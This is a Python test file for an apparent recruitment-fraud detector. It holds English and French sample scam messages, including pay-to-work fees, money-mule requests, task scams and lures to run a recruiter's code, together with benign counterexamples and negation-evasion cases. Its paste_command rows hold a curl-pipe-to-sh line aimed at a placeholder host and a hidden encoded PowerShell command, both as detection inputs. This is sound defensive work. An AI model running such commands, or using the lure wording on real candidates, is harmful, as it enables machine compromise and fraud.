"""Recruitment-fraud and developer-lure signals (RED-FLAGS 1d-1f): per-signal tables of
(text, expected snippets) in English and French, the section 1f counterexamples, and the
known misses of the earlier catalogue (paid travel, flattery, disclaimers, disguised apps)."""

from __future__ import annotations

import pandas as pd
import pytest

from recruitscore.schema import Approach
from recruitscore.signals import REGISTRY, extract_signals, extract_signals_frame, get_signal

from .assertions import assert_snippets_found, assert_spans_valid, assert_table_row

RISK = {s.name for s in REGISTRY if s.polarity == "risk"}

# (signal, text, fields, expected snippets; None = must not fire)
TABLE = [
    # F1 offer without interview
    ("offer_without_interview", "Congratulations you have been selected for the position of "
     "remote assistant", {}, ["you have been selected for the position"]),
    ("offer_without_interview", "ur CV was approved by our team, no interview required.", {},
     ["CV was approved by", "no interview required"]),
    ("offer_without_interview", "Vous avez été retenu pour le poste, le poste est à vous.", {},
     ["retenu pour le poste", "le poste est à vous"]),
    ("offer_without_interview", "Votre profil a été recommandé par plusieurs agences.", {},
     ["recommandé par plusieurs agences"]),
    ("offer_without_interview", "You've been selected for a first interview on Monday.", {},
     None),
    ("offer_without_interview", "Vous êtes retenue pour un entretien jeudi.", {}, None),
    # F2 low-skill remote role
    ("low_skill_remote_role", "Looking for a mystery shopper and data entry clerk.", {},
     ["mystery shopper", "data entry"]),
    ("low_skill_remote_role", "Recherche agent financier, saisie de données à domicile.", {},
     ["agent financier", "saisie de données"]),
    ("low_skill_remote_role", "We need a data engineer for our entry-level analytics team.", {},
     None),
    # F3 easy money
    ("easy_money", "make 500€ a day, 2h per day, no skills needed", {},
     ["500€ a day", "2h per day", "no skills needed"]),
    ("easy_money", "Payé le jour même, formation offerte, liberté d'horaires.", {},
     ["Payé le jour même", "formation offerte", "liberté d'horaires"]),
    ("easy_money", "We offer flexible hours and a competitive salary.", {}, None),
    # F4 pay to work
    ("pay_to_work", "u must pay a registration fee of 50$ to activate your account", {},
     ["u must pay a registration fee", "registration fee"]),
    ("pay_to_work", "Send the deposit to secure your position today.", {},
     ["deposit to secure your position"]),
    ("pay_to_work", "Frais d'inscription : 30 €, à payer avant de commencer.", {},
     ["Frais d'inscription"]),
    ("pay_to_work", "We'll courier you a company laptop before day one.", {}, None),
    ("pay_to_work", "We sponsor visas for this role.", {}, None),
    ("pay_to_work", "There is no application fee, ever.", {}, None),
    # F5 cheque forwarding
    ("cheque_forwarding", "Deposit the cheque and wire the remainder to our supplier.", {},
     ["Deposit the cheque", "wire the remainder"]),
    ("cheque_forwarding", "Encaissez le chèque puis renvoyez le reste par virement.", {},
     ["Encaissez le chèque", "renvoyez le reste"]),
    ("cheque_forwarding", "Expenses are reimbursed monthly through payroll.", {}, None),
    # F6 money mule
    ("money_mule", "we just need to use your bank account to process client payments", {},
     ["use your bank account", "process client payments"]),
    ("money_mule", "Il faut faire transiter des fonds et garder votre commission.", {},
     ["faire transiter des fonds", "garder votre commission"]),
    ("money_mule", "Your salary is paid to your bank account monthly.", {}, None),
    # F7 early identity request
    ("early_identity_request", "Please upload a scan of your passport and your routing number.",
     {}, ["upload a scan of your passport"]),
    ("early_identity_request", "Envoyez-moi votre RIB et une photo de votre carte d'identité.",
     {}, ["Envoyez-moi votre RIB"]),
    ("early_identity_request", "Could you send me your updated CV?", {}, None),
    ("early_identity_request", "Once you accept the offer, HR will ask for your passport via "
     "our onboarding system.", {}, None),
    # F8 chat-only interview
    ("chat_only_interview", "Your interview will hold on telegrm, download the app and add me",
     {}, ["interview will hold on telegrm"]),
    ("chat_only_interview", "Entretien par écrit sur WhatsApp uniquement.", {},
     ["Entretien par écrit"]),
    ("chat_only_interview", "Join via this Teams link.", {}, None),
    ("chat_only_interview", "I'll text you on WhatsApp to schedule a video interview.", {}, None),
    # F9 freemail for a company
    ("freemail_company_contact", "Talent acquisition, Northwind: write to tahq@yahoo.com",
     {"sender_company": "Northwind Robotics"}, ["tahq@yahoo.com", "Talent acquisition"]),
    ("freemail_company_contact", "Contact RH : recrutement.societe@gmail.com", {},
     ["recrutement.societe@gmail.com"]),
    ("freemail_company_contact", "I'm a freelancer, write to me at jo.freelance@gmail.com", {},
     None),
    # F11 task scam
    ("task_scam", "App optimization job: boost apps, 40 tasks per set, recharge your account.",
     {}, ["App optimization", "recharge your account"]),
    ("task_scam", "Optimiseur d'applications : rechargez votre compte pour débloquer les tâches.",
     {}, ["Optimiseur d'applications", "rechargez votre compte", "débloquer les tâches"]),
    ("task_scam", "You'll own the product ratings service and its API.", {}, None),
    # F12 account rental
    ("account_rental", "Can we use your Upwork account? Monthly fee for your account.", {},
     ["use your Upwork account", "Monthly fee for your account"]),
    ("account_rental", "Nous passerons les entretiens à votre place.", {},
     ["passerons les entretiens à votre place"]),
    ("account_rental", "Log in with your GitHub account to see the exercise.", {}, None),
    # F13 premium-rate number
    ("premium_rate_number", "Ring 0871 234 5678 to confirm your interview slot.", {},
     ["0871 234 5678"]),
    ("premium_rate_number", "Appelez le 0 892 68 01 22 pour l'entretien.", {},
     ["0 892 68 01 22"]),
    ("premium_rate_number", "My mobile is 07700 900123 if easier.", {}, None),
    # L1/L2 run our code
    ("run_our_code", "pls git clone the project and run it locally before the interview", {},
     ["git clone", "run it locally"]),
    ("run_our_code", "Implement a CRUD endpoint into our existing codebase, then open it in "
     "VS Code so we can screenshare.", {},
     ["Implement a CRUD endpoint into our existing codebase", "open it in VS Code"]),
    # run / launch: the sender's app or test is a lure, the candidate's own is not
    ("file_lure", "Run our app to start the assessment.", {}, ["Run our app"]),
    ("file_lure", "Launch the application we sent you.", {}, ["Launch the application we sent"]),
    ("file_lure", "Please run the test on your machine.", {}, ["run the test on your machine"]),
    ("file_lure", "Lancez le test et envoyez-nous le résultat.", {}, ["Lancez le test"]),
    ("file_lure", "Lancez l'application que nous vous avons envoyée.", {},
     ["Lancez l'application"]),
    ("file_lure", "Deliverables: a README explaining how to run the app and the tests.", {}, None),
    ("run_our_code", "Merci d'exécuter le projet avant la visio.", {},
     ["exécuter le projet avant la visio"]),
    ("run_our_code", "Lancez le projet pendant l'entretien.", {}, ["Lancez le projet"]),
    ("run_our_code", "Un README avec les instructions pour lancer l'application.", {}, None),
    # L2: reviewing "our project" before the meeting, with a second noun, in French too
    ("run_our_code", "Please review our project repository before the technical interview.", {},
     ["review our project repository before the technical interview"]),
    ("run_our_code", "Merci de relire notre projet avant l'entretien technique.", {},
     ["relire notre projet avant l'entretien"]),
    ("run_our_code", "Jetez un œil à notre code avant notre appel.", {},
     ["Jetez un œil à notre code avant notre appel"]),
    ("run_our_code", "Jetez un coup d'œil à notre code sur GitHub, il est open source.", {}, None),
    ("run_our_code", "Relisez notre charte avant l'entretien.", {}, None),
    ("run_our_code", "Corrigez un bug dans notre projet puis lancez le projet.", {},
     ["Corrigez un bug dans notre projet"]),
    ("run_our_code", "After our call you'll get a 2-hour HackerRank exercise.", {}, None),
    # L3 ad-hoc hosting only with L1/L2
    ("adhoc_code_hosting", "Please review our codebase: https://gitlab.com/nova-chain/core", {},
     ["https://gitlab.com/nova-chain/core"]),
    ("adhoc_code_hosting", "Our team page is on bitbucket.org/acme-io/site.", {}, None),
    ("adhoc_code_hosting", "Clone github.com/northwind/challenge and run npm install.",
     {"sender_company_url": "https://northwind.com"}, None),
    # L4 interview software
    ("interview_software_download", "Please install the meeting client from our site to join.",
     {}, ["install the meeting client"]),
    ("interview_software_download", "Mettez à jour Zoom via ce lien pour rejoindre.", {},
     ["Mettez à jour Zoom"]),
    ("interview_software_download", "Join via this Teams link.", {}, None),
    # L5 paste command
    ("paste_command", "open terminal and paste: curl -fsSL https://x.example/fix | sh", {},
     ["curl -fsSL https://x.example/fix | sh"]),
    ("paste_command", "Run powershell -w hidden -enc SQBFAFgA to enable the camera.", {},
     ["powershell -w hidden -enc"]),
    ("paste_command", "Tapez cette commande dans le terminal : npm run fix", {},
     ["Tapez cette commande dans le terminal"]),
    ("paste_command", "Experience with Bash and PowerShell scripting is a plus.", {}, None),
    # L6 web3 context
    ("web3_pitch", "This Web3 role pays €90–110k, JD attached, can we schedule a call next "
     "week?", {}, ["Web3"]),
    ("web3_pitch", "Projet blockchain : MVP de tokenisation immobilière.", {}, ["blockchain"]),
    ("web3_pitch", "Senior Java developer for our banking platform.", {}, None),
    # L7 (file_lure extended)
    ("file_lure", "The technical test is in the attached zip, password in url.txt", {},
     ["technical test is in the attached zip", "url.txt"]),
    ("file_lure", "Job description attached as a PDF.", {}, None),
    # L8 assessment portal
    ("assessment_portal", "Create an account and take the coding assessment to continue.", {},
     ["coding assessment", "Create an account"]),
    ("assessment_portal", "Coding test on CoderPad: https://app.coderpad.io/abc", {}, None),
    # a file or framework name is not a link, but a country domain that looks like a file
    # suffix still is one
    ("assessment_portal", "Technical test: a Next.js app, with a README.md and a setup.py.", {},
     None),
    ("assessment_portal", "Take the coding test at skills-check.sh today.", {},
     ["coding test", "skills-check.sh"]),
    # L9 secrets on device
    ("secrets_on_device", "add your seed phrase to the .env file and run the tests", {},
     ["seed phrase"]),
    ("secrets_on_device", "Lancez le test sur votre ordinateur professionnel.", {},
     ["sur votre ordinateur professionnel"]),
    ("secrets_on_device", "Experience with key management and secrets rotation.", {}, None),
    # benign counter-signals
    ("company_pays_costs", "We provide all equipment and a relocation package.", {},
     ["We provide all equipment", "relocation package"]),
    ("company_pays_costs", "Aucun frais pour le candidat ; matériel fourni.", {},
     ["Aucun frais pour le candidat"]),
    ("standard_assessment_platform", "Next step: a Codility test, then a call with the team.",
     {}, ["Codility"]),
    ("standard_assessment_platform", "Exercice technique à faire chez vous après notre premier "
     "échange.", {}, ["faire chez vous"]),
    ("video_interview_offered", "Happy to do a video call or meet in person in Lyon.", {},
     ["video call"]),
    ("video_interview_offered", "On peut caler un appel rapide cette semaine ?", {},
     ["caler un appel"]),
    ("post_offer_onboarding", "Congrats on accepting the offer! You'll add your bank details "
     "in our payroll system before your start date.", {},
     ["Congrats on accepting the offer", "payroll system"]),
    ("post_offer_onboarding", "Once the offer letter has been signed, BambooHR will collect your "
     "tax details.", {}, ["Once the offer letter has been signed", "BambooHR"]),
    ("post_offer_onboarding", "Dès que votre contrat est signé, le service paie vous demandera "
     "votre RIB.", {}, ["Dès que votre contrat est signé", "service paie"]),
    ("post_offer_onboarding", "Après la signature de votre contrat, vos justificatifs seront "
     "vérifiés en personne.", {}, ["Après la signature de votre contrat", "en personne"]),
    # counterexamples: an early request, a welcome without a signed offer, no HR channel
    ("post_offer_onboarding", "Before the interview, upload your passport to our HR portal.",
     {}, None),
    ("post_offer_onboarding", "You're hired! Send your bank details to my gmail for payroll.",
     {}, None),
    ("post_offer_onboarding", "Once you accept the offer, text me your SSN on Telegram.", {},
     None),
    ("post_offer_onboarding", "Bienvenue ! Envoyez votre RIB au service RH pour commencer.", {},
     None),
    ("post_offer_onboarding", "Une fois votre contrat signé, envoyez-moi votre IBAN par "
     "WhatsApp.", {}, None),
    # --- informal wording, second pass (illustrative rows written for these tests) ---
    # F1
    ("offer_without_interview", "hello, ur resume has been shortlisted, u r hired, the "
     "appointment letter follows", {},
     ["ur resume has been shortlisted", "u r hired", "appointment letter"]),
    ("offer_without_interview", "Votre lettre d'embauche est prête, le poste est à vous.", {},
     ["lettre d'embauche", "le poste est à vous"]),
    ("offer_without_interview", "Thanks for applying, we'd like to invite you to an interview.",
     {}, None),
    ("offer_without_interview", "Nous vous proposons un premier entretien lundi.", {}, None),
    # F2
    ("low_skill_remote_role", "need someone for my personal errands: receive my parcels and pay "
     "my bills", {}, ["personal errands", "receive my parcels", "pay my bills"]),
    ("low_skill_remote_role", "Get paid to put our sticker on your car, admin assistant also "
     "needed", {}, ["sticker on your car", "admin assistant"]),
    ("low_skill_remote_role", "Posez notre autocollant sur votre voiture et payer mes factures.",
     {}, ["autocollant sur votre voiture", "payer mes factures"]),
    ("low_skill_remote_role", "Je cherche quelqu'un pour mes courses personnelles.", {},
     ["courses personnelles"]),
    ("low_skill_remote_role", "We're hiring a systems administrator for our car-sharing app.",
     {}, None),
    ("low_skill_remote_role", "Poste d'administrateur réseau, CDI à Lille.", {}, None),
    # F3
    ("easy_money", "part-time job, work from home, earn 4000 rupees daily, the work is very "
     "simple", {}, ["part-time job", "work from home", "earn 4000 rupees daily",
                    "work is very simple"]),
    ("easy_money", "make $350 every week, extra income, hours can be arranged freely", {},
     ["$350 every week", "extra income", "hours can be arranged freely"]),
    ("easy_money", "Travail à domicile faisable sur téléphone, payé pour ça, 50 € par semaine",
     {}, ["Travail à domicile", "faisable sur téléphone", "payé pour ça"]),
    ("easy_money", "Un complément de revenu, de l'argent facile : gagnez 900 €.", {},
     ["argent facile", "gagnez 900 €"]),
    ("easy_money", "make money online and get a free gift card!", {},
     ["make money online", "free gift card"]),
    ("easy_money", "Un bon d'achat gratuit, quelques minutes par jour.", {},
     ["bon d'achat gratuit", "quelques minutes par jour"]),
    ("easy_money", "You'll earn a base of €70k plus bonus; hybrid, three days in the office.",
     {}, None),
    ("easy_money", "Poste à temps plein en CDI, salaire 48-52 k€ sur 12 mois.", {}, None),
    ("easy_money", "part time work with a daily salary", {}, ["part time work", "daily salary"]),
    ("easy_money", "Un gain journalier garanti.", {}, ["gain journalier"]),
    # F4
    ("pay_to_work", "the company sends the money, you get the laptop and software from our "
     "approved vendor", {}, ["software from our approved vendor"]),
    ("pay_to_work", "Acheter le matériel chez notre fournisseur agréé.", {},
     ["Acheter le matériel chez notre"]),
    ("pay_to_work", "We compared laptops from several vendors for our IT team.", {}, None),
    # F5
    ("cheque_forwarding", "go to the moneygram store and send the rest by western union", {},
     ["moneygram", "western union"]),
    ("cheque_forwarding", "Envoyez la somme par Western Union puis encaissez le chèque.", {},
     ["Western Union"]),
    ("cheque_forwarding", "Your expenses are reimbursed by bank transfer.", {}, None),
    # F11
    ("task_scam", "optimize the rankings of partner hotels, send a screenshot of each task", {},
     ["optimize the rankings of partner hotels", "screenshot of each task"]),
    ("task_scam", "Abonnez-vous à la chaîne, capture d'écran comme preuve.", {},
     ["capture d'écran comme preuve"]),
    ("task_scam", "simple online tasks: like & subscribe, give 5-star reviews, get paid for "
     "watching videos", {}, ["simple online tasks", "like & subscribe", "5-star reviews",
                             "paid for watching"]),
    ("task_scam", "Gagnez de l'argent en likant des vidéos, missions simples en ligne.", {},
     ["Gagnez de l'argent en likant", "missions simples en ligne"]),
    ("task_scam", "We pay an honorarium for reviewing the manuscript.", {}, None),
    ("task_scam", "Nous rémunérons la relecture du rapport.", {}, None),
    ("task_scam", "Could you send us a screenshot of the bug you reported?", {}, None),
    ("task_scam", "Pouvez-vous joindre une capture d'écran du problème ?", {}, None),
    # F12
    ("account_rental", "I need someone to attend interviews on my behalf, we split the salary",
     {}, ["attend interviews on my behalf", "split the salary"]),
    ("account_rental", "let's open a freelance account with your identity, I work on it from "
     "your computer with AnyDesk", {},
     ["open a freelance account with your identity", "AnyDesk"]),
    ("account_rental", "We could collaborate on your Upwork account and share the income.", {},
     ["collaborate on your Upwork account", "share the income"]),
    ("account_rental", "Je travaille via TeamViewer, on partage les revenus.", {},
     ["via TeamViewer", "partage les revenus"]),
    ("account_rental", "Our IT support team uses remote desktop tools; the salary is "
     "competitive.", {}, None),
    ("account_rental", "Créez votre compte sur notre portail carrières.", {}, None),
    # L1/L2
    ("run_our_code", "please review our project before the technical meeting and install the "
     "dependencies", {}, ["review our project before the technical meeting",
                          "install the dependencies"]),
    ("run_our_code", "You'll run the backend team and review our roadmap before the call.", {},
     None),
    ("run_our_code", "Étudiez notre projet avant la réunion technique.", {},
     ["Étudiez notre projet avant la réunion"]),
    ("run_our_code", "Découvrez notre produit sur notre site avant l'entretien.", {}, None),
    # L3 with L1/L2
    ("adhoc_code_hosting", "Review our codebase before the interview, we'll send an invitation "
     "to your GitHub, what is your GitHub username?", {},
     ["invitation to your GitHub", "your GitHub username"]),
    ("adhoc_code_hosting", "Here is my GitHub username if you want to see my work.", {}, None),
    ("adhoc_code_hosting", "Examinez le code avant l'entretien, donnez-moi votre identifiant "
     "GitHub pour l'invitation.", {}, ["votre identifiant GitHub"]),
    ("adhoc_code_hosting", "Mon identifiant GitHub est dans ma signature.", {}, None),
    # L4
    ("interview_software_download", "your microphone could not be detected, continue in the "
     "desktop app", {}, ["microphone could not be detected",
                         "continue in the desktop app"]),
    ("interview_software_download", "Caméra non détectée : installez notre application.", {},
     ["Caméra non détectée"]),
    ("interview_software_download", "The desktop app team ships a release every week.", {},
     None),
    # L5
    ("paste_command", "copy the update command and paste it on the command prompt, then send "
     "me a screenshot of the result", {},
     ["paste it on the command prompt", "screenshot of the result"]),
    ("paste_command", "Copiez la ligne suivante et collez-la dans l'invite de commandes.", {},
     ["collez-la dans l'invite de commandes"]),
    ("paste_command", "You'll copy data between systems and write PowerShell scripts.", {},
     None),
    ("paste_command", "Vous copierez des fichiers et écrirez des scripts PowerShell.", {}, None),
    # L8
    ("assessment_portal", "please complete the assessment here: https://hire-preview.example"
     "/invite/x1", {}, ["complete the assessment", "https://hire-preview.example/invite/x1"]),
    ("assessment_portal", "Complétez le questionnaire sur https://eval-candidats.example/q", {},
     ["Complétez le questionnaire", "https://eval-candidats.example/q"]),
    ("assessment_portal", "Please complete the assessment on HackerRank: "
     "https://www.hackerrank.com/test/x", {}, None),
]


@pytest.mark.parametrize(("name", "text", "fields", "expected"), TABLE)
def test_table(name, text, fields, expected) -> None:
    assert_table_row(name, text, fields, expected)


# RED-FLAGS 1f: illustrative counterexamples that must not raise any red flag (context and
# benign signals may fire).
COUNTEREXAMPLES_1F = [
    "After our call you'll get a 2-hour HackerRank exercise.",
    "Could you send me your updated CV?",
    "We'll courier you a company laptop before day one.",
    "We sponsor visas for this role.",
    "Join via this Teams link.",
    "This Web3 role pays €90–110k, JD attached, can we schedule a call next week?",
]
# A real take-home described on company careers pages (paraphrased): the Sketch careers FAQ
# (sketch.com/about-us/open-positions/faqs/2-take-home-task/) and a published take-home brief
# (philbert/take-home-tech-test): the candidate writes and pushes the code.
CAREERS_PAGE_TAKE_HOME = [
    "We often ask you to complete a practical exercise so we see how you work, communicate and "
    "solve problems: a coding challenge, a short writing task, or a presentation you give in "
    "your next interview.",
    "Push the code you write to a public git repository of your choice (GitHub, Bitbucket, "
    "GitLab...). Include a readme explaining how to run it. If we like your submission, we'll "
    "invite you to a technical interview with our senior developers.",
]


@pytest.mark.parametrize("text", COUNTEREXAMPLES_1F + CAREERS_PAGE_TAKE_HOME)
def test_benign_recruiting_raises_no_red_flag(text) -> None:
    fired = {h.name for h in extract_signals(text)}
    assert not fired & RISK, fired & RISK


def test_1f_benign_signals_fire() -> None:
    fired = [{h.name for h in extract_signals(t)} for t in COUNTEREXAMPLES_1F]
    assert "standard_assessment_platform" in fired[0]
    assert "company_pays_costs" in fired[2] and "company_pays_costs" in fired[3]
    assert "video_interview_offered" in fired[4] and "video_interview_offered" in fired[5]
    assert "web3_pitch" in fired[5]


# Conjunctions of RED-FLAGS 1f: each fires all its parts.
CONJUNCTIONS = [
    ("Congratulations, you have been selected for the role! Send a copy of your ID and pay the "
     "$80 training fee.", {"offer_without_interview", "early_identity_request", "pay_to_work"}),
    ("Personal assistant job: we'll send you a check, deposit it and wire the balance to our "
     "vendor.", {"low_skill_remote_role", "cheque_forwarding"}),
    ("Like videos and rate products, commission per task, earn $200 a day, contact me on "
     "Telegram.", {"task_scam", "easy_money", "off_platform_request"}),
    ("Our DeFi MVP: clone https://bitbucket.org/dfx-labs/mvp and run npm install before our "
     "call.", {"web3_pitch", "run_our_code", "adhoc_code_hosting"}),
    ("Your camera is not detected: press Win+R and paste the fix, then rejoin the interview.",
     {"interview_software_download", "paste_command"}),
]


@pytest.mark.parametrize(("text", "expected"), CONJUNCTIONS)
def test_conjunctions(text, expected) -> None:
    fired = {h.name for h in extract_signals(text)}
    assert expected <= fired, expected - fired


# Known misses of the earlier catalogue
@pytest.mark.parametrize(("text", "name", "snippet"), [
    ("I can cover your flights and hotel to meet my clients in Dubai.", "paid_travel",
     "cover your flights and hotel"),
    ("Nous prendrions en charge votre voyage et votre hôtel.", "paid_travel",
     "prendrions en charge votre voyage"),
    ("What an impressive profile!", "flattery", "impressive profile"),
    ("Votre parcours m'a beaucoup impressionné.", "flattery", "m'a beaucoup impressionné"),
])
def test_known_misses_now_fire(text, name, snippet) -> None:
    hits = {h.name: h for h in extract_signals(text)}
    assert name in hits, text
    assert_snippets_found([e.snippet for e in hits[name].evidence], [snippet], name)


@pytest.mark.parametrize("text", [
    "Please never run the take-home on your work laptop; a personal machine is fine.",
    "It uses mock data only, and you should never enter real keys or credentials.",
    "L'exercice n'utilise que des données fictives ; ne le lancez pas sur votre ordinateur "
    "professionnel.",
    "N'y saisissez jamais de vraies clés privées.",
])
def test_negated_action_is_safe_advice(text) -> None:
    fired = {h.name for h in extract_signals(text)}
    assert not fired & {"file_lure", "secrets_on_device"}, (text, fired)


@pytest.mark.parametrize("text,names", [
    ("Never use your personal laptop for this: run it on your work laptop with your real wallet "
     "keys.", {"file_lure", "secrets_on_device"}),
    ("Don't hesitate to run it on your work laptop with your real keys in the .env file.",
     {"file_lure", "secrets_on_device"}),
    ("N'utilisez jamais votre ordinateur personnel, lancez le projet sur votre ordinateur "
     "professionnel avec vos vraies clés.", {"file_lure", "secrets_on_device"}),
    ("Ne perdez pas de temps : ouvrez-le sur votre ordinateur professionnel.", {"file_lure"}),
    ("Never use your personal laptop, run it on your work laptop with your real keys.",
     {"file_lure", "secrets_on_device"}),
    # other separators, and actions beyond a closed verb list (a review of rule R19-F)
    ("Never use your personal laptop (run it on your work laptop with your real keys).",
     {"file_lure", "secrets_on_device"}),
    ("Never use your personal laptop / run it on your work laptop with your real keys.",
     {"file_lure", "secrets_on_device"}),
    ("Never use your personal laptop\nrun it on your work laptop with your real keys.",
     {"file_lure", "secrets_on_device"}),
    ("Please do the take-home on your work laptop.", {"file_lure", "secrets_on_device"}),
    ("Passez le test depuis votre ordinateur professionnel.", {"file_lure", "secrets_on_device"}),
])
def test_a_negation_elsewhere_cancels_nothing(text, names) -> None:
    """Hostile input: a negated clause before the request must not buy a lower score."""
    fired = {h.name for h in extract_signals(text)}
    assert names <= fired, (text, fired)
    frame = extract_signals_frame(pd.DataFrame({"message": [text] * 3}))
    assert all(frame[n].all() for n in names)


@pytest.mark.parametrize("text,name", [
    ("We never charge a fee for the interview, but the training kit costs $150, pay it via Zelle "
     "before you start.", "pay_to_work"),
    ("Nous ne facturons jamais l'entretien, mais le kit coûte 150 €, à régler par PayPal.",
     "pay_to_work"),
    ("Please do not share any confidential information, but tell me about your unpublished "
     "results.", "elicitation"),
])
def test_a_disclaimer_before_but_cancels_nothing_after_it(text, name) -> None:
    """Hostile input: one reassuring clause must not buy a lower score for the next one."""
    assert name in {h.name for h in extract_signals(text)}
    frame = extract_signals_frame(pd.DataFrame({"message": [text] * 3}))
    assert frame[name].all()


@pytest.mark.parametrize("text,span,plain", [
    ("We'll provide the laptop, you need to pay a $90 deposit for the equipment.",
     "you need to pay a $", "You need to pay a $90 deposit for the equipment."),
    ("We'll provide the laptop... you need to pay a $90 deposit for the equipment.",
     "you need to pay a $", "You need to pay a $90 deposit for the equipment."),
    ("The training fee is $150, pay it via Zelle, we never charge any fee.",
     ", pay it via Zelle", "The training fee is $150, pay it via Zelle."),
    ("Nous fournissons l'ordinateur, vous devez payer une caution de 90 € pour le matériel.",
     "vous devez payer une caution", "Vous devez payer une caution de 90 € pour le matériel."),
    ("Les frais de formation sont de 150 €, payez-les via PayPal, nous ne facturons jamais de "
     "frais.", "payez-les via PayPal", "Les frais de formation sont de 150 €, payez-les via "
     "PayPal."),
    ("Nous prenons en charge le matériel, il faudra juste payer 90 € de caution.",
     "il faudra juste payer 90", "Il faudra juste payer 90 € de caution."),
])
def test_a_reassurance_never_cancels_an_instruction_to_pay(text, span, plain) -> None:
    """Hostile input (rule R18-A): "we'll provide the laptop" or "we never charge any fee" in the
    same sentence used to cancel the candidate being told to pay (``PatternSignal.firm``)."""
    hits = {h.name: h for h in extract_signals(text)}
    assert "pay_to_work" in hits, text
    assert span in [e.snippet for e in hits["pay_to_work"].evidence]
    assert_spans_valid(Approach(message=text), hits.values())
    frame = extract_signals_frame(pd.DataFrame({"message": [text] * 40}))
    assert frame["pay_to_work"].all()
    assert "pay_to_work" in {h.name for h in extract_signals(plain)}


# The sixth red-team review (rule R18-H): the instruction is read in the clause of the fee, in
# its usual words, with contractions; a warning or a negation before it leaves it cancellable.
CLAUSE_INSTRUCTIONS = [
    "Please pay the $120 onboarding fee by Friday, there are no other costs.",
    "Pay the equipment fee via Zelle today and we will cover the shipping.",
    "We cover the training, but you'll need to pay a $90 deposit for the kit.",
    "We provide the equipment, you'd need to pay a $90 activation fee first.",
    "We cover the training, you're required to pay a refundable deposit of $50.",
    "Vous devrez simplement régler 49 € de frais de dossier, la formation est ensuite gratuite.",
    "Il vous faudra vous acquitter de 49 € de frais d'inscription, le matériel est pris en "
    "charge par l'entreprise.",
    "Effectuez un virement de 150 € pour les frais de formation, aucun frais supplémentaire.",
    "Merci d'effectuer le paiement des frais d'inscription (49 €), le kit est gratuit.",
]
HEDGED_INSTRUCTIONS = [
    "A word of caution: if anyone tells you that you need to pay a fee for training or "
    "equipment, it is a scam, as we never charge candidates anything.",
    "Attention : si quelqu'un vous dit que vous devez payer des frais de dossier, c'est une "
    "arnaque, notre recrutement est entièrement gratuit.",
    "Please note that at no stage of our process will you need to pay for equipment or "
    "training, which is always covered by us.",
    "As an independent contractor you will need to buy your own laptop, but we provide all "
    "software licences.",
    "If you leave the company, you will need to send the laptop back, and the return shipping "
    "is paid by us.",
    "Ne payez jamais de frais de dossier : notre recrutement est gratuit.",
]


def test_an_instruction_in_the_clause_of_the_fee_is_never_cancelled() -> None:
    frame = extract_signals_frame(pd.DataFrame({"message": CLAUSE_INSTRUCTIONS * 5}))
    for i, text in enumerate(CLAUSE_INSTRUCTIONS):
        assert "pay_to_work" in {h.name for h in extract_signals(text)}, text
        assert frame["pay_to_work"].iloc[i], text


def test_a_warning_or_a_negation_is_not_an_instruction_to_pay() -> None:
    frame = extract_signals_frame(pd.DataFrame({"message": HEDGED_INSTRUCTIONS * 6}))
    for i, text in enumerate(HEDGED_INSTRUCTIONS):
        assert "pay_to_work" not in {h.name for h in extract_signals(text)}, text
        assert not frame["pay_to_work"].iloc[i], text


@pytest.mark.parametrize("text,fires", [
    ("I don't need any classified details, of course: just which programmes you are cleared "
     "for and who leads them.", True),
    ("Without asking you to disclose anything sensitive, which programmes are you currently "
     "cleared for?", True),
    ("Je ne vous demande rien de confidentiel : sur quels programmes êtes-vous habilité ?", True),
    ("We will never ask which programmes you are cleared for.", False),
    ("Nous ne vous demanderons jamais sur quels programmes classifiés vous travaillez.", False),
    ("Please do not share any confidential information or unpublished results.", False),
])
def test_a_direct_question_is_not_cancelled_by_a_disclaimer(text, fires) -> None:
    """Rule R18-K: the question for clearance or programmes is the red flag itself."""
    assert ("elicitation" in {h.name for h in extract_signals(text)}) == fires, text
    frame = extract_signals_frame(pd.DataFrame({"message": [text] * 40}))
    assert bool(frame["elicitation"].all()) == fires and bool(frame["elicitation"].any()) == fires


@pytest.mark.parametrize("text,name", [
    ("There is a training fee, but it is fully covered by us.", "pay_to_work"),
    ("We cover all costs, including the visa fee and your flights.", "pay_to_work"),
    ("You will not need to pay any fees; we cover the visa fee.", "pay_to_work"),
    ("Les frais de formation sont pris en charge par l'entreprise.", "pay_to_work"),
    ("Please do not share any confidential information or unpublished results.", "elicitation"),
])
def test_a_disclaimer_still_cancels_its_own_clause(text, name) -> None:
    assert name not in {h.name for h in extract_signals(text)}


@pytest.mark.parametrize("text", [
    "Please do not share any confidential information.",
    "do not share any confidential information",
    "You must not disclose internal roadmaps, unpublished results or classified data.",
    "We will never ask for non-public or insider information.",
    "Ne partagez aucune information confidentielle ni résultat non publié.",
])
def test_disclaimers_do_not_fire_elicitation(text) -> None:
    assert "elicitation" not in {h.name for h in extract_signals(text)}


def test_elicitation_still_fires_without_disclaimer() -> None:
    fired = {h.name for h in extract_signals("Tell me about your unpublished results.")}
    assert "elicitation" in fired
    fired = {h.name for h in extract_signals("Don't hesitate to share your internal roadmap.")}
    assert "elicitation" in fired


@pytest.mark.parametrize(("spelled", "disguise"), [
    ("whats app", False), ("Whats App", False), ("tele gram", False), ("Sig nal", False),
    ("whatsap", False), ("watsapp", False), ("telegrm", False), ("telegramm", False),
    ("ᴡʜᴀᴛsᴀᴘᴘ", True), ("ᴛᴇʟᴇɢʀᴀᴍ", True), ("ppastahw", True), ("margelet", True),
])
def test_disguised_app_names(spelled, disguise) -> None:
    text = f"Add me on {spelled} pls"
    hits = {h.name: h for h in extract_signals(text)}
    assert "off_platform_request" in hits, text
    assert any(spelled in e.snippet for e in hits["off_platform_request"].evidence)
    assert_spans_valid(Approach(message=text), hits.values())
    assert ("obfuscated_text" in hits) == disguise, text


@pytest.mark.parametrize("text", ["We chat every morning as a team.", "Wei Xin leads the lab.",
                                  "what's up?", "The telegraph office"])
def test_app_spellings_do_not_overreach(text) -> None:
    assert "off_platform_request" not in {h.name for h in extract_signals(text)}


def test_both_paths_agree_on_the_new_tables() -> None:
    rows = [{"message": t, **f} for _, t, f, _ in TABLE]
    rows += [{"message": t} for t in COUNTEREXAMPLES_1F + CAREERS_PAGE_TAKE_HOME]
    rows += [{"message": t} for t, _ in CONJUNCTIONS]
    # more than the small-batch threshold, so the column path runs pyarrow's RE2 too
    df = pd.DataFrame(rows * 2)
    frame = extract_signals_frame(df)
    for i, row in enumerate(df.to_dict("records")):
        single = {h.name for h in extract_signals(row)}
        assert single == {c for c in frame.columns if frame.iloc[i][c]}, row["message"]


def test_every_signal_has_a_polarity_in_the_json_listing() -> None:
